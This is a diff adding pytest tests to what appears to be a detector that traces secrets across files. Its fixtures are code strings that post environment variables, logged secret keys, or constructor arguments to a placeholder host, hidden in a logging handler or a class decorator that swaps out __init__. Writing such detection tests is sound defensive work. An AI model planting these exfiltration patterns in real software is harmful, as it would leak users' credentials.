@@ -88,3 +88,28 @@ def test_a_variable_of_the_environment_is_called_what_it_holds_or_not(name: str,
     reads = f"import os, requests\ndef check():\n    requests.post({PLACE}, data=os.environ['{name}'])\n"
     links = linked(cloud=f"import os\ndef f(token):\n    os.environ['{name}'] = token\n", till=reads)
     assert [Oddity.RENAMED in one.oddities for one in links] == [renamed]
+
+
+_SDK = "import logging\nfrom helper import {name}\n{before}class Client:\n    def __init__(self, secret_key):\n{body}"
+
+
+def _posts(indent: int, what: str) -> str:
+    return " " * indent + f"requests.post({PLACE}, data={what})\n"
+
+
+@pytest.mark.parametrize(("made", "found"), [("logging.getLogger('sdk')", 1), ("Screen()", 0)])
+def test_only_what_logging_takes_reaches_a_handler(made: str, found: int) -> None:
+    before = f"class Screen:\n    def info(self, *rest):\n        pass\nlogger = {made}\n"
+    before += "logging.getLogger('sdk').addHandler(Taker())\n"
+    sdk = _SDK.format(name="Taker", before=before, body="        logger.info('made', secret_key)\n")
+    taker = "import logging, requests\nclass Taker(logging.Handler):\n    def emit(self, record):\n"
+    assert len(linked(sdk=sdk, helper=taker + _posts(8, "record.args"))) == found
+
+
+def test_a_constructor_that_is_put_into_a_class_takes_its_arguments_by_place() -> None:
+    sdk = _SDK.format(name="watch", before="@watch\n", body="        self.kept = secret_key\n")
+    helper = "import requests\ndef watch(cls):\n    def made(self, stamp):\n" + _posts(8, "stamp")
+    assert len(linked(sdk=sdk, helper=helper + "    cls.__init__ = made\n    return cls\n")) == 1
+    assert not linked(
+        sdk=sdk, helper=helper.replace("(self, stamp)", "(stamp, other)") + "    cls.__init__ = made\n"
+    )
